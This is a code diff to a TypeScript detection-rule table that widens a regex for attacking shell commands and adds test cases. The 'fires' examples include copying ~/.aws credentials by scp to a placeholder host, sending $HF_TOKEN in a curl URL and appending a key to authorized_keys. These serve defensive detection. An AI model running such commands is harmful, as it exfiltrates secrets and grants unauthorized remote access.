@@ -37,9 +37,19 @@ export const CARRYING_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /\btee\b[^\n|;]*\bauthorized_keys\b|\bgit\s+config\b[^\n]*\bcredential\.helper\b[^\n]*![^\n]*\b(?:curl|wget|nc)\b/,
-    fires: ['cat k.pub | sudo tee -a /home/x/.ssh/authorized_keys'],
-    quiet: ['git config --global credential.helper store', 'echo x | tee log'],
+      /\btee\b[^\n|;]*\bauthorized_keys\b|\b(?:scp|rsync)\b(?![^\n]*\s-\w*[ie]\b)[^\n]*(?:~|\$\{?HOME\}?)\/\.(?:ssh|aws|kube|gnupg)\b(?!\S*\.pub\b)[^\n]*\s\S+@[\w.-]+:|\bcurl\b[^\n]*\bhttp:\/\/(?!localhost\b|127\.)[^\s"']*\$\{?\w*(?:TOKEN|SECRET|API_?KEY|PASSWORD)\b|\bgit\s+config\b[^\n]*\bcredential\.helper\b[^\n]*![^\n]*\b(?:curl|wget|nc)\b/,
+    fires: [
+      'scp -r ~/.aws a@b.invalid:',
+      'curl "http://a.invalid/?t=$HF_TOKEN"',
+      'cat k.pub | sudo tee -a /home/x/.ssh/authorized_keys',
+    ],
+    quiet: [
+      'scp ~/.ssh/id.pub a@b:',
+      'scp -i ~/.ssh/id x a@b:',
+      'curl "http://localhost/?t=$TOKEN"',
+      'git config --global credential.helper store',
+      'echo x | tee log',
+    ],
   },
   {
     rule: HOST_ACCESS,
